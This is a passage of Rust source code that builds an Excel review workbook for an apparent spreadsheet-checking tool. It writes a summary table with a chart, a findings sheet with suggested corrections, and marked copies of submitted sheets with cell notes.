        headers.iter().copied().zip(widths).take(7),
    ))];
    for (i, r) in results.iter().take(rows).enumerate() {
        let row = (i + 1) as u32;
        let (colour, e, w) = status_of(r);
        tally.files += 1;
        tally.error_count += e;
        tally.warning_count += w;
        let status = match &r.status {
            Status::Unreadable(u) => {
                tally.unreadable += 1;
                let (reason, hint) = crate::messages::unreadable_text(u, opts.lang);
                format!("{}: {reason} ({hint})", words.unreadable)
            }
            Status::Skipped(why) => format!(
                "{}: {}",
                words.skipped,
                crate::messages::skip_text(opts.lang, why)
            ),
            Status::Checked if e > 0 => {
                tally.errors += 1;
                words.with_errors.to_string()
            }
            Status::Checked if w > 0 => {
                tally.warnings += 1;
                words.with_warnings.to_string()
            }
            Status::Checked => {
                tally.clean += 1;
                words.clean.to_string()
            }
        };
        // The forms read in part, with how surely (`M01 80 %`).
        let partly: Vec<String> = r
            .forms
            .iter()
            .filter(|f| f.confidence < 1.0)
            .map(|f| format!("{} {} %", f.form, (f.confidence * 100.0).round()))
            .collect();
        let status = if partly.is_empty() {
            status
        } else {
            format!("{status}; {}: {}", words.read_in_part, partly.join(", "))
        };
        // A row's formats (plain, bold, link), made once for each status colour.
        let [f, bold, link] = row_formats.entry(colour).or_insert_with(|| {
            let f = fill(colour).set_align(FormatAlign::Top).set_text_wrap();
            let bold = f.clone().set_bold();
            [f, bold.clone(), link_format(bold)]
        });
        let (f, bold, link) = (&*f, &*bold, &*link);
        let name = r.unit.name.as_deref().unwrap_or("");
        let code = r.unit.code.as_deref().unwrap_or("");
        let lang = opts.lang;
        put_text(ws, row, 0, &r.path, f, lang)?;
        put_text(ws, row, 1, name, f, lang)?;
        put_text(ws, row, 2, code, f, lang)?;
        ws.write_number_with_format(row, 4, e as f64, f)?;
        ws.write_number_with_format(row, 5, w as f64, f)?;
        // The first finding as its message says it, after its severity (it may be a warning).
        let first = match (&r.status, r.findings.first()) {
            (Status::Unreadable(u), _) => {
                let (reason, _) = crate::messages::unreadable_text(u, opts.lang);
                Some(format!("{}: {reason}", words.unreadable))
            }
            (_, Some(first)) => Some(format!(
                "{}: {}",
                words.severity(first.severity),
                first.message
            )),
            _ => None,
        };
        let first = first.map(|t| clip(&t, FIRST_FINDING_CHARS));
        // The status links to the file's first finding (a short link: LibreOffice does not
        // wrap a linked cell's text), the first finding beside it wraps.
        match (first_row[i], &first) {
            (Some(target), Some(_)) if i < MAX_LINKS => {
                let url = Url::new(format!("internal:{findings_sheet}!A{}", target + 1))
                    .set_text(own_text(&status));
                ws.write_url_with_format(row, 3, &url, link)?;
            }
            _ => put_text(ws, row, 3, &status, bold, lang)?,
        }
        match &first {
            Some(first) => put_text(ws, row, 6, first, f, lang)?,
            None => {
                ws.write_blank(row, 6, f)?;
            }
        }
        // One line a label, or the chart leaves labels out.
        let label = shorten_middle(plan.labels.get(i).map_or("", String::as_str), 24);
        put_text(ws, row, 7, &label, f, lang)?;
        let lines = row_lines([
            (r.path.as_str(), widths[0]),
            (name, widths[1]),
            (code, widths[2]),
            (status.as_str(), widths[3]),
            (first.as_deref().unwrap_or(""), widths[6]),
        ]);
        ws.set_row_height(row, row_height(lines))?;
        heights.push(row_height(lines));
    }
    let last = rows as u32;
    ws.set_freeze_panes(1, 0)?;
    if rows > 0 {
        ws.autofilter(0, 0, last, 7)?;
    }
    let mut line = last + 2;
    ws.write_string(line, 0, totals_line(words, &tally))?;
    if plan.skipped > 0 {
        line += 1;
        ws.write_string_with_format(
            line,
            0,
            render(
                words.sheets_skipped,
                &[
                    ("skipped", &plan.skipped.to_string()),
                    ("total", &plan.total.to_string()),
                    ("max", &opts.max_copied_sheets.to_string()),
                ],
            ),
            &Format::new()
                .set_bold()
                .set_font_color(Color::RGB(0xC00000)),
        )?;
    }
    if total_findings > MAX_ROWS - 1 {
        line += 1;
        ws.write_string_with_format(
            line,
            0,
            render(
                words.findings_cut,
                &[
                    ("shown", &(MAX_ROWS - 1).to_string()),
                    ("total", &total_findings.to_string()),
                ],
            ),
            &Format::new()
                .set_bold()
                .set_font_color(Color::RGB(0xC00000)),
        )?;
    }

    // The chart, below the table, names every branch; beyond [`MAX_CHART_BRANCHES`] the bars
    // would be too thin to read and the table (sortable, filtered) says it instead.
    if rows > 0 && rows <= MAX_CHART_BRANCHES {
        let mut chart = Chart::new(ChartType::BarStacked);
        let sheet = words.summary_sheet;
        chart
            .add_series()
            .set_name((sheet, 0, 4))
            .set_categories((sheet, 1, 7, last, 7))
            .set_values((sheet, 1, 4, last, 4))
            .set_format(
                ChartFormat::new()
                    .set_solid_fill(ChartSolidFill::new().set_color(Color::RGB(0xC00000))),
            )
            .set_gap(60);
        chart
            .add_series()
            .set_name((sheet, 0, 5))
            .set_categories((sheet, 1, 7, last, 7))
            .set_values((sheet, 1, 5, last, 5))
            .set_format(
                ChartFormat::new()
                    .set_solid_fill(ChartSolidFill::new().set_color(Color::RGB(0xFFC000))),
            );
        chart.title().set_name(words.chart_title);
        chart.show_hidden_data();
        // In a bar chart the categories run up the y axis: reversed, they read top-down like
        // the table.
        chart
            .y_axis()
            .set_reverse()
            .set_label_interval(1)
            .set_font(ChartFont::new().set_size(9));
        chart.x_axis().set_min(0);
        chart.legend().set_position(ChartLegendPosition::Top);
        let height = (110 + CHART_PX_PER_BRANCH * rows) as u32;
        chart.set_width(760).set_height(height);
        // On the table's page when both fit (A4 landscape, 516 points high at the table's
        // scale), else on a page of its own.
        let table_width: f64 = widths[..7].iter().map(|w| (w * 7.0 + 5.0) * 0.75).sum();
        let scale = (784.0 / table_width).min(1.0);
        let table_height: f64 =
            heights.iter().sum::<f64>() + f64::from(line + 2 - last) * LINE_HEIGHT;
        if (table_height + f64::from(height) * 0.75) * scale > 516.0 {
            ws.set_page_breaks(&[line + 2])?;
        }
        ws.insert_chart(line + 2, 0, &chart)?;
    }
    Ok(())
}

/// The width of the Findings sheet's column of reviewers' notes (the review desk's marks).
const NOTE_WIDTH: f64 = 40.0;

/// The Findings sheet's column widths: file, branch, sheet, cell, rule, severity, message,
/// expected, found, difference, most likely cause, suggested value.
const FINDINGS_WIDTHS: [f64; 12] = [
    20.0, 16.0, 12.0, 7.0, 16.0, 8.0, 36.0, 9.0, 9.0, 9.0, 44.0, 18.0,
];

fn write_findings(
    ws: &mut Worksheet,
    results: &[FileResult],
    plan: &CopyPlan,
    words: &ReviewWords,
    lang: Lang,
    notes: &BTreeMap<(usize, usize), String>,
) -> Result<(), ReviewError> {
    ws.set_name(words.findings_sheet)?;
    paper_landscape(ws, (0, 0))?;
    let head = header_format();
    let headers = [
        words.file,
        words.branch,
        words.sheet,
        words.cell,
        words.rule,
        words.severity,
        words.message,
        words.expected,
        words.found,
        words.difference,
        words.most_likely,
        words.suggested,
    ];
    for (c, h) in headers.iter().enumerate() {
        ws.write_string_with_format(0, c as u16, *h, &head)?;
    }
    if !notes.is_empty() {
        ws.write_string_with_format(0, 12, words.review_note, &head)?;
        ws.set_column_width(12, NOTE_WIDTH)?;
    }
    // One table across an A4 page in landscape: 202 characters, printed at about 70 %.
    let widths = FINDINGS_WIDTHS;
    for (c, w) in widths.iter().enumerate() {
        ws.set_column_width(c as u16, *w)?;
    }
    ws.set_row_height(
        0,
        row_height(row_lines(headers.iter().copied().zip(widths))),
    )?;
    // Every text wraps, top-aligned; each row is as tall as its tallest text.
    let top = Format::new().set_align(FormatAlign::Top).set_text_wrap();
    let wrap = top.clone();
    let link = link_format(top.clone());
    // The formats are made once for the sheet, not for each row.
    let severity_format = |s: Severity| {
        let (strong, _) = mark_fill(s);
        top.clone()
            .set_background_color(Color::RGB(strong))
            .set_bold()
    };
    let (error, warning, info) = (
        severity_format(Severity::Error),
        severity_format(Severity::Warning),
        severity_format(Severity::Info),
    );
    let unreadable_format = top
        .clone()
        .set_background_color(Color::RGB(GREY))
        .set_bold();
    let mut num_formats: BTreeMap<Option<u8>, Format> = BTreeMap::new();
    let mut row: u32 = 0;
    let mut links = 0usize;
    'outer: for (ri, r) in results.iter().enumerate() {
        let branch = r
            .unit
            .name
            .as_deref()
            .or(r.unit.code.as_deref())
            .unwrap_or("");
        if let Status::Unreadable(u) = &r.status {
            if row as usize >= MAX_ROWS - 1 {
                break 'outer;
            }
            row += 1;
            let (reason, hint) = crate::messages::unreadable_text(u, lang);
            put_text(ws, row, 0, &r.path, &top, lang)?;
            put_text(ws, row, 1, branch, &top, lang)?;
            ws.write_string_with_format(row, 5, words.unreadable, &unreadable_format)?;
            let message = format!("{reason} ({hint})");
            put_text(ws, row, 6, &message, &wrap, lang)?;
            let lines = row_lines([
                (r.path.as_str(), widths[0]),
                (branch, widths[1]),
                (message.as_str(), widths[6]),
            ]);
            ws.set_row_height(row, row_height(lines))?;
        }
        for (fi, f) in r.findings.iter().enumerate() {
            if row as usize >= MAX_ROWS - 1 {
                break 'outer;
            }
            row += 1;
            put_text(ws, row, 0, &f.file, &top, lang)?;
            put_text(ws, row, 1, branch, &top, lang)?;
            put_text(ws, row, 2, f.sheet.as_deref().unwrap_or(""), &top, lang)?;
            if let Some(c) = f.cells.first() {
                let shown = if f.sheet.as_deref() == Some(c.sheet.as_str()) {
                    c.cell.clone()
                } else {
                    format!("{}!{}", c.sheet, c.cell)
                };
                let target = plan
                    .by_sheet
                    .get(&(ri, c.sheet.clone()))
                    .zip(CellRef::parse_a1(&c.cell));
                match target {
                    Some((copy, at)) if links < MAX_LINKS => {
                        links += 1;
                        let url = Url::new(format!("internal:{}!{at}", quote_sheet_name(copy)))
                            .set_text(own_text(&shown));
                        ws.write_url_with_format(row, 3, &url, &link)?;
                    }
                    _ => {
                        put_text(ws, row, 3, &shown, &top, lang)?;
                    }
                }
            }
            put_text(ws, row, 4, &f.rule, &top, lang)?;
            let sev = match f.severity {
                Severity::Error => &error,
                Severity::Warning => &warning,
                Severity::Info => &info,
            };
            ws.write_string_with_format(row, 5, words.severity(f.severity), sev)?;
            put_text(ws, row, 6, &f.message, &wrap, lang)?;
            let mut lines = row_lines([
                (f.file.as_str(), widths[0]),
                (branch, widths[1]),
                (f.sheet.as_deref().unwrap_or(""), widths[2]),
                (f.rule.as_str(), widths[4]),
                (f.message.as_str(), widths[6]),
            ]);
            let nf =
                num_formats
                    .entry(f.decimals)
                    .or_insert_with(|| match decimals_code(f.decimals) {
                        Some(code) => top.clone().set_num_format(code),
                        None => top.clone(),
                    });
            for (c, v) in [(7u16, f.expected), (8, f.actual), (9, f.difference)] {
                if let Some(v) = v.filter(|v| v.is_finite()) {
                    ws.write_number_with_format(row, c, v, nf)?;
                }
            }
            if let Some(e) = explanation_of(r, f) {
                put_text(ws, row, 10, &e.text, &wrap, lang)?;
                let likely = likely_changes(r);
                let suggested: Vec<String> = likely
                    .iter()
                    .filter(|c| {
                        r.explanations
                            .iter()
                            .filter(|o| o.cause == e.cause)
                            .any(|o| {
                                o.changes
                                    .iter()
                                    .any(|d| d.cell == c.cell && d.sheet == c.sheet)
                            })
                    })
                    .map(|c| {
                        let cell = if f.sheet.as_deref() == Some(c.sheet.as_str()) {
                            c.cell.clone()
                        } else {
                            format!("{}!{}", c.sheet, c.cell)
                        };
                        let n = |v: f64| format_number(v, Some(c.decimals), lang.locale());
                        let value = match (c.suggested, c.range) {
                            (Some(v), _) => n(v),
                            (None, Some((lo, hi))) => format!(
                                "{} – {}",
                                lo.map(n).unwrap_or_default(),
                                hi.map(n).unwrap_or_default()
                            ),
                            (None, None) => String::new(),
                        };
                        format!("{cell}: {value}")
                    })
                    .collect();
                let suggested = suggested.join("; ");
                put_text(ws, row, 11, &suggested, &wrap, lang)?;
                lines = lines.max(row_lines([
                    (e.text.as_str(), widths[10]),
                    (suggested.as_str(), widths[11]),
                ]));
            }
            if let Some(note) = notes.get(&(ri, fi)) {
                put_text(ws, row, 12, note, &wrap, lang)?;
                lines = lines.max(row_lines([(note.as_str(), NOTE_WIDTH)]));
            }
            ws.set_row_height(row, row_height(lines))?;
        }
    }
    ws.set_freeze_panes(1, 0)?;
    ws.autofilter(0, 0, row, if notes.is_empty() { 11 } else { 12 })?;
    Ok(())
}

// ---------------------------------------------------------------------------------------------
// Marked copies

/// What the findings say about one cell of a copied sheet.
struct CellMarks<'a> {
    mark: Mark,
    /// (finding, this cell is the one it most suspects).
    findings: Vec<(&'a Finding, bool)>,
    /// The most likely correction of this cell ("probably 2.674 — off by one").
    explained: Option<&'a str>,
}

/// The changes of a file's explanations that are the most likely: those every equally small
/// explanation of their cause makes.
pub fn likely_changes(r: &FileResult) -> Vec<&crate::result::Change> {
    let mut out: Vec<&crate::result::Change> = Vec::new();
    for e in r.explanations.iter().filter(|e| e.localised) {
        let others: Vec<&crate::result::Explanation> = r
            .explanations
            .iter()
            .filter(|o| o.cause == e.cause)
            .collect();
        for c in &e.changes {
            let everywhere = others.iter().all(|o| {
                o.changes
                    .iter()
                    .any(|d| d.sheet == c.sheet && d.cell == c.cell && d.suggested == c.suggested)
            });
            if everywhere && !out.iter().any(|d| d.sheet == c.sheet && d.cell == c.cell) {
                out.push(c);
            }
        }
    }
    out
}

/// What a cell's note says of its correction: the most likely change's note where the change
/// is in every equally small explanation of its cause ([`likely_changes`]); otherwise, for a cell
/// that one of several equally small explanations changes, those explanations' text, which
/// lists the candidates — never one candidate's value alone as if it were the answer.
pub fn cell_explained<'a>(
    r: &'a FileResult,
    likely: &[&'a crate::result::Change],
    sheet: &str,
    cell: &str,
) -> Option<&'a str> {
    if let Some(c) = likely.iter().find(|c| c.sheet == sheet && c.cell == cell) {
        return Some(c.note.as_str());
    }
    r.explanations
        .iter()
        .filter(|e| e.localised && e.alternatives > 1)
        .find(|e| e.changes.iter().any(|c| c.sheet == sheet && c.cell == cell))
        .map(|e| e.text.as_str())
}

/// The first explanation resolving a finding.
pub fn explanation_of<'a>(
    r: &'a FileResult,
    f: &Finding,
) -> Option<&'a crate::result::Explanation> {
    r.explanations
        .iter()
        .find(|e| e.resolves.iter().any(|x| x.is(f)))
}

fn marks_for<'a>(r: &'a FileResult, sheet: &str) -> BTreeMap<CellRef, CellMarks<'a>> {
    let mut out: BTreeMap<CellRef, CellMarks<'a>> = BTreeMap::new();
    // The most likely changes get the strongest mark; the other cells of the findings they
    // resolve a light one (not the first cell of each breakdown).
    let likely = likely_changes(r);
    let likely_here: BTreeMap<CellRef, &crate::result::Change> = likely
        .iter()
        .filter(|c| c.sheet == sheet)
        .filter_map(|c| CellRef::parse_a1(&c.cell).map(|at| (at, *c)))
        .collect();
    for f in &r.findings {
        let explained = explanation_of(r, f).is_some();
        let mut seen = BTreeSet::new();
        for (i, c) in f.cells.iter().enumerate() {
            if c.sheet != sheet {
                continue;
            }
            let Some(at) = CellRef::parse_a1(&c.cell) else {
                continue;
            };
            if !seen.insert(at) {
                continue;
            }
            let primary = if explained {
                likely_here.contains_key(&at)
            } else {
                i == 0
            };
            let m = Mark {
                severity: f.severity,
                primary,
            };
            out.entry(at)
                .and_modify(|cm| {
                    cm.mark = cm.mark.max(m);
                    cm.findings.push((f, primary));
                })
                .or_insert_with(|| CellMarks {
                    mark: m,
                    findings: vec![(f, primary)],
                    explained: cell_explained(r, &likely, sheet, &c.cell),
                });
        }
    }
    for (at, c) in likely_here {
        let strong = Mark {
            severity: Severity::Error,
            primary: true,
        };
        let cm = out.entry(at).or_insert_with(|| CellMarks {
            mark: strong,
            findings: vec![],
            explained: None,
        });
        cm.mark = cm.mark.max(strong);
        cm.explained = Some(c.note.as_str());
    }
    out
}

/// Longest message of one finding in a cell's note, in characters (the Findings sheet holds
/// the message as far as a cell holds it).
const NOTE_MESSAGE_CHARS: usize = 2_000;

/// The note on a marked cell: the most likely correction, then every finding about it, each
/// with the check's figures on the cell the check tests, and on any other cell that cell's own
/// figure and its part in the check (a cell the check only read holds none of its totals).
fn note_text(cm: &CellMarks<'_>, lang: Lang, sheet: &Sheet, at: CellRef) -> String {
    let words = ReviewWords::of(lang);
    let mut list: Vec<&(&Finding, bool)> = cm.findings.iter().collect();
    // Strongest first; otherwise in the findings' own order (a stable sort keeps it).
    list.sort_by_key(|f| std::cmp::Reverse(f.0.severity));
    let mut parts = Vec::new();
    if let Some(note) = cm.explained {
        parts.push(note.to_string());
    }
    for (f, primary) in list {
        // A message quoting a huge cell is cut: a note stays readable, and the notes after it
        // (other findings, a formula not kept, a text cut) still fit.
        let message = crate::write::xlsx_limits::fit_text(&f.message, NOTE_MESSAGE_CHARS).0;
        let mut s = format!("[{}] {}\n{message}", words.severity(f.severity), f.rule);
        let figures = crate::write::note::FigureWords {
            expected: words.expected,
            found: words.found,
            difference: words.difference,
        };
        if let Some(line) =
            crate::write::note::figures_line(f, &sheet.name, at, Some(sheet), lang, figures)
        {
            s.push('\n');
            s.push_str(&line);
        }
        if !primary {
            if let Some(c) = f.cells.first() {
                s.push_str(&format!("\n({} {})", words.most_suspect, c.cell));
            }
        }
        parts.push(s);
    }
    let text = parts.join("\n\n");
    crate::write::xlsx_limits::note_text(&text).into_owned()
}

fn note_for(text: String) -> Note {
    // Rough size: ~48 characters a line at 360 px, 15 px a line.
    let lines: usize = text
        .split('\n')
        .map(|l| l.chars().count().div_ceil(48).max(1))
        .sum();
    let height = (lines * 15 + 16).clamp(74, 600) as u32;
    Note::new(crate::safe::workbook(&text))
        .set_author("crossfoot")
        .add_author_prefix(false)
        .set_width(360)
        .set_height(height)
}

/// The rows holding the table's column headers: the first row with at least three cells, all
/// text, none of them a title-block label (`Mã đơn vị:`), and the rows below it that merged
/// header cells reach down into (a two-row header: `Số liệu năm báo cáo` over `Số lượng` and
/// `Tỷ lệ (%)`).
fn header_rows(sheet: &Sheet) -> Option<(u32, u32)> {
    let mut rows: BTreeMap<u32, (usize, bool)> = BTreeMap::new();
    for (at, cell) in &sheet.cells {
        let e = rows.entry(at.row).or_insert((0, true));
        match &cell.value {
            Value::Text(t) if cell.formula.is_none() && !t.trim().is_empty() => {
                e.0 += 1;
                if t.trim_end().ends_with(':') {
                    e.1 = false;
                }
            }
            Value::Empty if cell.formula.is_none() => {}
            _ => e.1 = false,
        }
    }
    let first = rows
        .iter()
        .find(|(_, (texts, ok))| *ok && *texts >= 3)
        .map(|(r, _)| *r)?;
    let reach = sheet
        .merges
        .iter()
        .filter(|m| m.first.row == first && m.last.row > first)
        .map(|m| m.last.row)
        .max()
        .unwrap_or(first)
        .min(first + 4);
    let mut last = first;
    while last < reach && rows.get(&(last + 1)).is_none_or(|(_, ok)| *ok) {
        last += 1;
    }
    Some((first, last))
}

/// The value a formula's cached result is written as.
fn result_text(v: &Value) -> String {
    match v {
        Value::Empty => String::new(),
        Value::Number(n) if n.is_finite() => format!("{n}"),
        Value::Number(_) => "#NUM!".to_string(),
        Value::Text(t) => cell_text(t).to_string(),
        Value::Bool(b) => if *b { "TRUE" } else { "FALSE" }.to_string(),
        Value::Error(e) => e.clone(),
        Value::Date(d) => d.clone(),
    }
}

/// Writes the marked copy of `sheet` (of `r`). `rename` gives the name of the copy of another
/// sheet of the same file, by that sheet's name, for formulas that refer to it
/// ([`renames_in`]); it is asked nothing when no kept formula names another sheet.
fn write_copy(
    ws: &mut Worksheet,
    r: &FileResult,
    sheet: &Sheet,
    rename: &dyn Fn(&str) -> Option<String>,
    opts: &ReviewOptions,
    formats: &mut Formats,
) -> Result<CopyWritten, ReviewError> {
    ws.set_default_note_author("crossfoot");
    let mut done = CopyWritten {
        all_formulas_pure: true,
    };
    // Notes that are not about findings: formulas not kept, texts cut, cells beyond the grid.
    let mut extra_notes: BTreeMap<CellRef, String> = BTreeMap::new();
    // Every note, by cell, to print below the sheet (spreadsheet programs do not print notes).
    let mut printed: Vec<(CellRef, String)> = Vec::new();
    let mut beyond_grid = 0usize;
    let marks = marks_for(r, &sheet.name);
    let header = header_rows(sheet);
    // A4 as the forms are printed (portrait), one page across, the table's header repeated.
    ws.set_paper_size(A4)
        .set_print_fit_to_pages(1, 0)
        .set_margins(0.4, 0.4, 0.5, 0.6, 0.3, 0.3)
        .set_footer("&L&A&R&P / &N");
    if let Some((a, b)) = header {
        ws.set_repeat_rows(a, b)?;
    }
    let in_header = |row: u32| header.is_some_and(|(a, b)| (a..=b).contains(&row));
    let table_top = header.map_or(0, |(a, _)| a);
    let style_of = |at: CellRef, fmt: NumFmt, is_text: bool| CellStyle {
        num: if is_text { None } else { num_code(fmt) },
        bold: is_text && in_header(at.row),
        center: false,
        mark: marks.get(&at).map(|m| m.mark),
    };

    // Merged ranges first: merge_range fills the range with blanks, the cells below overwrite.
    let mut merged: BTreeSet<CellRef> = BTreeSet::new();
    for m in &sheet.merges {
        let (a, b) = (m.first, m.last);
        if a == b || a.row > b.row || a.col > b.col || b.row >= MAX_ROWS as u32 || b.col > 16_383 {
            continue;
        }
        let overlaps = (a.row..=b.row)
            .any(|row| (a.col..=b.col).any(|col| merged.contains(&CellRef::new(row, col))));
        let cells = u64::from(b.row - a.row + 1) * u64::from(b.col - a.col + 1);
        if overlaps || cells > 100_000 {
            continue;
        }
        let first = sheet.get(a);
        let mut style = style_of(
            a,
            first.map(|c| c.fmt).unwrap_or_default(),
            first.is_some_and(|c| matches!(c.value, Value::Text(_))),
        );
        style.center = in_header(a.row);
        ws.merge_range(
            a.row,
            a.col as u16,
            b.row,
            b.col as u16,
            "",
            formats.get(&style),
        )?;
        for row in a.row..=b.row {
            for col in a.col..=b.col {
                merged.insert(CellRef::new(row, col));
            }
        }
    }

    let mut widths: BTreeMap<u32, usize> = BTreeMap::new();
    let filled = |at: CellRef| {
        sheet
            .get(at)
            .is_some_and(|c| c.value != Value::Empty || c.formula.is_some())
    };
    for (at, cell) in &sheet.cells {
        if at.row >= MAX_ROWS as u32 || at.col > 16_383 {
            beyond_grid += 1;
            continue;
        }
        let (row, col) = (at.row, at.col as u16);
        // A date the reader kept as its serial number is written back as a number shown as a
        // date; one it rendered as text (ISO, from .ods) stays text.
        let serial = match &cell.value {
            Value::Date(d) => d.trim().parse::<f64>().ok().filter(|n| n.is_finite()),
            _ => None,
        };
        let is_text = serial.is_none()
            && matches!(
                cell.value,
                Value::Text(_) | Value::Date(_) | Value::Error(_)
            );
        let mut style = style_of(*at, cell.fmt, is_text);
        style.center = in_header(at.row) && merged.contains(at);
        if let Some(n) = serial {
            style.num = Some(
                if n.fract() == 0.0 {
                    "dd/mm/yyyy"
                } else {
                    "dd/mm/yyyy hh:mm"
                }
                .to_string(),
            );
        }
        let format = formats.styled(&style);
        // A formula from the submission is kept only if it is a pure calculation inside the
        // workbook; any other is written as its cached value, with a note showing it as text.
        // An .ods formula is in another syntax (`of:=SUM([.C8];[.C9])`): its value is written.
        let formula = match cell.formula.as_deref() {
            None => None,
            Some(f) if formula_safety::is_opendocument(f) => None,
            Some(f) => match formula_safety::assess(f) {
                Ok(()) => rewrite_formula(f, rename),
                Err(why) => {
                    extra_notes.insert(*at, formula_note(opts.lang, f, &why));
                    None
                }
            },
        };
        if let Some(f) = &formula {
            done.all_formulas_pure &= formula_safety::is_safe(f);
        }
        if let Value::Text(t) = &cell.value {
            if let (_, Some(n)) = crate::write::xlsx_limits::cell_text(t) {
                let note = cut_note(opts.lang, n);
                extra_notes
                    .entry(*at)
                    .and_modify(|e| {
                        e.push_str("\n\n");
                        e.push_str(&note);
                    })
                    .or_insert(note);
            }
        }
        put_cell(ws, row, col, formula, &cell.value, serial, format)?;
        // Column widths follow the table (rows from the header down) and any text a filled
        // neighbour would cut off; a title line with nothing to its right spills over as it
        // did in the original.
        let right_filled = filled(CellRef::new(at.row, at.col + 1));
        let in_table = at.row >= table_top && header.is_some();
        if !merged.contains(at) && (in_table || right_filled) {
            let w = match &cell.value {
                Value::Text(t) => t.chars().count(),
                Value::Number(_) => 10,
                v => result_text(v).chars().count(),
            };
            let e = widths.entry(at.col).or_default();
            *e = (*e).max(w);
        }
    }
    if beyond_grid > 0 {
        let note = beyond_grid_note(opts.lang, beyond_grid);
        extra_notes
            .entry(CellRef::new(0, 0))
            .and_modify(|e| {
                e.push_str("\n\n");
                e.push_str(&note);
            })
            .or_insert(note);
    }
    for (at, cm) in &marks {
        if at.row >= MAX_ROWS as u32 || at.col > 16_383 {
            continue;
        }
        if !sheet.cells.contains_key(at) {
            let style = CellStyle {
                num: None,
                bold: false,
                center: false,
                mark: Some(cm.mark),
            };
            ws.write_blank(at.row, at.col as u16, formats.get(&style))?;
        }
        let mut text = note_text(cm, opts.lang, sheet, *at);
        if let Some(extra) = extra_notes.remove(at) {
            text.push_str("\n\n");
            text.push_str(&extra);
        }
        let text = crate::write::xlsx_limits::note_text(&text).into_owned();
        ws.insert_note(at.row, at.col as u16, &note_for(text.clone()))?;
        printed.push((*at, text));
    }
    for (at, text) in extra_notes {
        let text = crate::write::xlsx_limits::note_text(&text).into_owned();
        ws.insert_note(at.row, at.col as u16, &note_for(text.clone()))?;
        printed.push((at, text));
    }
    let mut col_widths: BTreeMap<u32, f64> = BTreeMap::new();
    for (col, w) in widths {
        if col <= 16_383 {
            let w = (w as f64 * 1.1 + 2.0).clamp(6.0, 60.0);
            ws.set_column_width(col as u16, w)?;
            col_widths.insert(col, w);
        }
    }
    printed.sort_by_key(|(at, _)| (at.row, at.col));
    let last_row = sheet
        .cells
        .keys()
        .map(|at| at.row)
        .filter(|r| (*r as usize) < MAX_ROWS)
        .max();
    let last_col = sheet
        .cells
        .keys()
        .map(|at| at.col)
        .filter(|c| *c <= 16_383)
        .max()
        .unwrap_or(0);
    print_notes(ws, &printed, last_row, last_col, &col_widths, opts)?;
    if let Some(worst) = marks.values().map(|m| m.mark.severity).max() {
        let (strong, _) = mark_fill(worst);
        ws.set_tab_color(Color::RGB(strong));
    }
    Ok(done)
}

/// The notes of a copied sheet printed below its cells, under the heading "Notes": one row
/// a paragraph, the cell's address on its first, the text wrapped across the sheet's columns
/// (at least 60 characters wide) and the row as tall as it takes. A printed copy says why
/// each cell is marked; on screen the notes are on the cells as well.
fn print_notes(
    ws: &mut Worksheet,
    notes: &[(CellRef, String)],
    last_row: Option<u32>,
    last_col: u32,
    col_widths: &BTreeMap<u32, f64>,
    opts: &ReviewOptions,
) -> Result<(), XlsxError> {
    if notes.is_empty() {
        return Ok(());
    }
    let words = ReviewWords::of(opts.lang);
    let width_of = |c: u32| col_widths.get(&c).copied().unwrap_or(8.43);
    // The text spans columns 1..=span: the sheet's columns, widened to 60 characters.
    let mut span = last_col.max(1);
    let mut width: f64 = (1..=span).map(width_of).sum();
    while width < 60.0 && span < 40 {
        span += 1;
        width += width_of(span);
    }
    let mut row = last_row.map_or(0, |r| r + 2);
    let paragraphs: usize = notes.iter().map(|(_, t)| t.split("\n\n").count()).sum();
    if row as usize + 1 + paragraphs >= MAX_ROWS {
        return Ok(());
    }
    let top = Format::new().set_align(FormatAlign::Top);
    let wrap = top.clone().set_text_wrap();
    let address = top.set_bold();
    ws.write_string_with_format(row, 0, words.notes, &Format::new().set_bold())?;
    for (at, text) in notes {
        for (i, para) in text.split("\n\n").enumerate() {
            row += 1;
            if i == 0 {
                ws.write_string_with_format(row, 0, at.to_string(), &address)?;
            }
            ws.merge_range(row, 1, row, span as u16, "", &wrap)?;
            put_text(ws, row, 1, para, &wrap, opts.lang)?;
            ws.set_row_height(row, row_height(wrapped_lines(para, width)))?;
        }
    }
    Ok(())
}

/// Where a marked copy comes from, right of the copied cells (which keep their addresses):
/// the file and the sheet on the first row, a link back to the file's row of the Summary on
/// the second; the file and sheet in the printed page's header too.
fn write_banner(
    ws: &mut Worksheet,
    r: &FileResult,
    sheet: &Sheet,
    summary_row: Option<u32>,
    words: &ReviewWords,
) -> Result<(), ReviewError> {
    let last = sheet
        .cells
        .keys()
        .map(|at| at.col)
        .chain(sheet.merges.iter().map(|m| m.last.col))
        .chain(
            r.findings
                .iter()
                .flat_map(|f| &f.cells)
                .filter(|c| c.file.is_none() && c.sheet == sheet.name)
                .filter_map(|c| CellRef::parse_a1(&c.cell).map(|at| at.col)),
        )
        .filter(|c| *c <= 16_383)
        .max()
        .unwrap_or(0);
    let col = last.saturating_add(2);
    if col > 16_383 {
        return Ok(());
    }
    let col = col as u16;
    let text = format!(
        "{}: {}, {} {}",
        words.copied_from, r.path, words.of_sheet, sheet.name
    );
    // Shown in the cell and in the page header alike.
    let text = crate::safe::workbook(&text);
    let bold = Format::new().set_bold();
    ws.write_string_with_format(0, col, cell_text(&text), &bold)?;
    if let Some(row) = summary_row {
        let url = Url::new(format!(
            "internal:{}!A{}",
            quote_sheet_name(words.summary_sheet),
            row + 1
        ))
        .set_text(words.back_to_summary);
        ws.write_url_with_format(1, col, &url, &link_format(Format::new()))?;
    }
    // A header holds 255 characters, `&` doubled.
    ws.set_header(format!("&L{}", clip(&text, 110).replace('&', "&&")));
    Ok(())
}

/// Writes one copied cell: its kept formula with its cached result, else its value; with its
/// format, or none for the default style ([`Formats::styled`]).
fn put_cell(
    ws: &mut Worksheet,
    row: u32,
    col: u16,
    formula: Option<String>,
    value: &Value,
    serial: Option<f64>,
    format: Option<&Format>,
) -> Result<(), XlsxError> {
    match (formula, value) {
        (Some(f), v) => {
            let f = Formula::new(f).set_result(result_text(v));
            match format {
                Some(format) => ws.write_formula_with_format(row, col, f, format)?,
                None => ws.write_formula(row, col, f)?,
            };
        }
        (None, Value::Number(n)) if n.is_finite() => {
            match format {
                Some(format) => ws.write_number_with_format(row, col, *n, format)?,
                None => ws.write_number(row, col, *n)?,
            };
        }
        (None, Value::Date(_)) if serial.is_some() => {
            let n = serial.unwrap_or_default();
            match format {
                Some(format) => ws.write_number_with_format(row, col, n, format)?,
                None => ws.write_number(row, col, n)?,
            };
        }
        (None, Value::Bool(b)) => {
            match format {
                Some(format) => ws.write_boolean_with_format(row, col, *b, format)?,
                None => ws.write_boolean(row, col, *b)?,
            };
        }
        (None, Value::Empty) => {
